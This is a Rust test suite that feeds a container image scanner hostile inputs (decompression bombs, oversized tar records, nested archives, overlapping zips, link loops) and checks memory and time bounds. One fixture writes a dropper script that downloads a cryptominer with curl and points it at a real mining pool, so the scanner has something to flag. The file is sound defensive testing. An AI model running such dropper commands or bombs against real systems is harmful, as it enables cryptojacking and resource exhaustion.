//! Hostile inputs against the real binary: each scan must end in bounded time
//! and memory with a clear error (exit 2) or a report that lists what was not
//! read — never a crash, a hang or a silent pass. Peak RSS and wall time come
//! from GNU time (`wait4`'s rusage of the child).

use std::fs;
use std::path::Path;
use std::process::Command;
use std::sync::Mutex;
use std::time::Duration;

use minehound_testdata::hostile::{self, NameRecord};
use minehound_testdata::{BuiltImage, Compression, Entry, ImageSpec, Layer, write_oci_layout};
use serde_json::Value;

/// Bombs run one at a time, so wall times are not inflated by each other.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

/// Resident memory no bomb may push the scanner past. A clean scan of a
/// small image peaks near 25 MiB; a 64 MiB file buffer per worker adds to it.
const MAX_RSS_MIB: u64 = 256;

struct Measured {
    code: i32,
    report: Option<Value>,
    stderr: String,
    peak_rss_mib: u64,
    wall: Duration,
}

/// Runs `minehound scan --format json TARGET` under GNU time, with no config
/// file and no cache, and checks the common bounds.
fn scan_measured(case: &str, target: &str, max_wall: Duration) -> Measured {
    scan_measured_with(case, &[], target, max_wall)
}

/// [`scan_measured`] with more options.
fn scan_measured_with(case: &str, options: &[&str], target: &str, max_wall: Duration) -> Measured {
    let _guard = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let output = Command::new("/usr/bin/time")
        .args(["-f", "minehound-peak %M %e"])
        .arg(assert_cmd::cargo::cargo_bin("minehound"))
        .args(["scan", "--format", "json", "--no-progress"])
        .args(options)
        .arg(target)
        .env("MINEHOUND_NO_CACHE", "true")
        .env("MINEHOUND_NO_CONFIG", "1")
        .output()
        .expect("GNU time (/usr/bin/time) runs minehound");
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let measure = stderr
        .lines()
        .rev()
        .find_map(|l| l.strip_prefix("minehound-peak "))
        .unwrap_or_else(|| panic!("{case}: no measurement in {stderr}"));
    let (rss_kib, secs) = measure.split_once(' ').unwrap();
    let measured = Measured {
        code: output.status.code().unwrap_or(-1),
        report: serde_json::from_slice(&output.stdout).ok(),
        peak_rss_mib: rss_kib.parse::<u64>().unwrap() / 1024,
        wall: Duration::from_secs_f64(secs.parse().unwrap()),
        stderr,
    };
    eprintln!(
        "bomb | {case} | exit {} | {:.1} s | {} MiB",
        measured.code,
        measured.wall.as_secs_f64(),
        measured.peak_rss_mib
    );
    assert!(
        [0, 1, 2].contains(&measured.code),
        "{case}: crashed: {}",
        measured.stderr
    );
    assert!(
        measured.stderr.contains("minehound-peak") && !measured.stderr.contains("panicked"),
        "{case}: {}",
        measured.stderr
    );
    assert!(
        measured.peak_rss_mib < MAX_RSS_MIB,
        "{case}: peak RSS {} MiB",
        measured.peak_rss_mib
    );
    assert!(
        measured.wall < max_wall,
        "{case}: took {:?}, limit {max_wall:?}",
        measured.wall
    );
    measured
}

fn layout_of(dir: &Path, image: &BuiltImage) -> String {
    write_oci_layout(dir, &[(image, Some("latest"))]).unwrap();
    format!("oci:{}", dir.display())
}

/// The scan failed with exit 2 and a message holding `words`.
fn assert_error(case: &str, run: &Measured, words: &str) {
    assert_eq!(run.code, 2, "{case}: {}", run.stderr);
    assert!(run.stderr.contains(words), "{case}: {}", run.stderr);
}

/// The scan completed and lists `path` (or a path under it) as not fully
/// read, for `reason`.
fn assert_skipped(case: &str, run: &Measured, path: &str, reason: &str) -> Value {
    let report = run
        .report
        .clone()
        .unwrap_or_else(|| panic!("{case}: no report: {}", run.stderr));
    let skipped = report["skipped"].as_array().unwrap();
    assert!(
        skipped
            .iter()
            .any(|s| s["path"].as_str().unwrap().starts_with(path)
                && s["reason"].as_str().unwrap().contains(reason)),
        "{case}: {path} not skipped for {reason:?}: {skipped:#?}"
    );
    report
}

const SECS: fn(u64) -> Duration = Duration::from_secs;
const GIB: u64 = 1 << 30;

#[test]
fn a_gigabyte_of_zeros_is_streamed_and_reported_in_gzip_and_zstd() {
    for (case, compression) in [
        ("gzip of 1 GiB of zeros", Compression::Gzip),
        ("zstd of 1 GiB of zeros", Compression::Zstd),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let image = hostile::zeros_image(compression, GIB).unwrap();
        assert!(
            image.layers[0].bytes.len() < 2 << 20,
            "{case}: small on disk"
        );
        let run = scan_measured(case, &layout_of(dir.path(), &image), SECS(60));
        assert_eq!(run.code, 0, "{case}: {}", run.stderr);
        assert_skipped(case, &run, "/zeros", "larger than the file size limit");
    }
}

#[test]
fn huge_tar_name_records_are_refused() {
    for (case, record) in [
        ("GNU long name of 300 MiB", NameRecord::GnuLongName),
        ("PAX record of 300 MiB", NameRecord::Pax),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let image = hostile::huge_name_record_image(record, 300 << 20).unwrap();
        let run = scan_measured(case, &layout_of(dir.path(), &image), SECS(30));
        assert_error(case, &run, "exceeds the 1048576-byte limit");
    }
}

#[test]
fn old_gnu_sparse_entries_with_huge_sizes_are_listed_not_read() {
    let case = "old-GNU sparse, 1,000 entries of 1 EiB each";
    let dir = tempfile::tempdir().unwrap();
    let image = hostile::sparse_image(1000, 1 << 60).unwrap();
    let run = scan_measured(case, &layout_of(dir.path(), &image), SECS(30));
    assert_eq!(run.code, 0, "{case}: {}", run.stderr);
    let report = assert_skipped(case, &run, "/var/sparse-999", "GNU sparse file");
    assert_eq!(report["stats"]["files_skipped"], 1000);
}

#[test]
fn a_hundred_thousand_tiny_files_are_all_counted() {
    let case = "100,000 one-byte files";
    let dir = tempfile::tempdir().unwrap();
    let image = hostile::many_files_image(100_000).unwrap();
    let run = scan_measured(case, &layout_of(dir.path(), &image), SECS(60));
    assert_eq!(run.code, 0, "{case}: {}", run.stderr);
    let report = run.report.unwrap();
    assert_eq!(report["stats"]["files"], 100_000);
    assert_eq!(report["stats"]["files_scanned"], 100_000);
}

#[test]
fn archives_nested_fifty_deep_stop_at_the_depth_limit() {
    let case = "tar.gz nested 50 deep";
    let dir = tempfile::tempdir().unwrap();
    let image = hostile::nested_archives_image(50);
    let run = scan_measured(case, &layout_of(dir.path(), &image), SECS(30));
    assert_eq!(run.code, 0, "{case}: {}", run.stderr);
    assert_skipped(
        case,
        &run,
        "/opt/nest.tar.gz!/",
        "nested deeper than the limit",
    );
}

#[test]
fn an_overlapping_entries_zip_is_refused() {
    let case = "zip, 10,000 members over one 64 MiB kernel";
    let dir = tempfile::tempdir().unwrap();
    let image = hostile::overlapping_zip_image(10_000, 64 << 20).unwrap();
    let run = scan_measured(case, &layout_of(dir.path(), &image), SECS(60));
    assert_eq!(run.code, 0, "{case}: {}", run.stderr);
    assert_skipped(case, &run, "/opt/bomb.zip", "zip members overlap");
}

#[test]
fn manifests_with_absurd_sizes_or_ten_thousand_layers_are_errors() {
    let dir = tempfile::tempdir().unwrap();
    hostile::write_absurd_size_layout(dir.path(), 1 << 62).unwrap();
    let case = "manifest: layer of 4 EiB";
    let run = scan_measured(case, &format!("oci:{}", dir.path().display()), SECS(30));
    assert_error(case, &run, "size");

    let dir = tempfile::tempdir().unwrap();
    hostile::write_many_layers_layout(dir.path(), 10_000).unwrap();
    let case = "manifest: 10,000 layers";
    let run = scan_measured(case, &format!("oci:{}", dir.path().display()), SECS(30));
    assert_error(case, &run, "4096");
}

#[test]
fn an_endless_chain_of_indexes_is_an_error() {
    let case = "index chain 1,000 deep";
    let dir = tempfile::tempdir().unwrap();
    hostile::write_index_chain_layout(dir.path(), 1000).unwrap();
    let run = scan_measured(case, &format!("oci:{}", dir.path().display()), SECS(30));
    assert_error(case, &run, "nesting is deeper than");
}

#[test]
fn link_loops_in_a_directory_are_not_followed_and_hard_links_read_once() {
    let case = "dir: symlink loops, 10,000 hard links to a 4 MiB file";
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("rootfs");
    hostile::write_link_loops_dir(&root, 10_000, 4 << 20).unwrap();
    // A dropper under three names: each name is reported.
    let dropper = root.join("etc/dropper.sh");
    fs::write(
        &dropper,
        "#!/bin/sh\ncurl -sL https://example.invalid/x -o /tmp/.x/xmrig\n\
         /tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1\n",
    )
    .unwrap();
    for name in ["usr-run.sh", "opt-run.sh"] {
        fs::hard_link(&dropper, root.join("etc").join(name)).unwrap();
    }
    let run = scan_measured(case, &format!("dir:{}", root.display()), SECS(30));
    assert_eq!(run.code, 1, "{case}: {}", run.stderr);
    let report = run.report.unwrap();
    // /etc/motd, the dropper's names and the linked file's: nothing behind a symlink.
    assert_eq!(report["stats"]["files"], 10_004, "{report:#}");
    assert_eq!(report["stats"]["files_scanned"], 10_004);
    let flagged: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    for name in ["/etc/dropper.sh", "/etc/usr-run.sh", "/etc/opt-run.sh"] {
        assert!(flagged.contains(&name), "{name}: {flagged:?}");
    }
    assert!(
        flagged.iter().all(|p| p.starts_with("/etc/")),
        "{flagged:?}"
    );
}

#[test]
fn file_buffers_wait_for_the_memory_budget_instead_of_growing_past_it() {
    // Four layers of one 48 MiB file each: four workers would hold all four
    // buffers at once; a budget of 64 MiB lets one in at a time.
    let file = 48 << 20;
    let image = ImageSpec {
        layers: (0..4)
            .map(|i| {
                Layer::gzip(
                    "COPY data /srv/",
                    vec![Entry::file(
                        &format!("/srv/data-{i}.bin"),
                        vec![i as u8; file],
                    )],
                )
            })
            .collect(),
        ..ImageSpec::default()
    }
    .build();
    let dir = tempfile::tempdir().unwrap();
    let target = layout_of(dir.path(), &image);
    let mut peaks = Vec::new();
    for budget in ["64MiB", "128MiB", "512MiB"] {
        let case = format!("4 x 48 MiB files, --jobs 4, --memory-budget {budget}");
        let run = scan_measured_with(
            &case,
            &["--jobs", "4", "--memory-budget", budget],
            &target,
            SECS(120),
        );
        assert_eq!(run.code, 0, "{case}: {}", run.stderr);
        let report = run.report.unwrap();
        assert_eq!(report["stats"]["files_scanned"], 4, "{case}");
        peaks.push(run.peak_rss_mib);
    }
    // One buffer at a time under 64 MiB. Under 512 MiB all four may be
    // held at once, but how many overlap is scheduling on a loaded 2-core
    // machine (a CI run saw [72, 120, 151]): at least one more than under
    // 64 MiB shows it was the budget that held them back.
    assert!(peaks[0] < 64 + 60, "{peaks:?}");
    assert!(peaks[2] > peaks[0] + 40, "{peaks:?}");
}
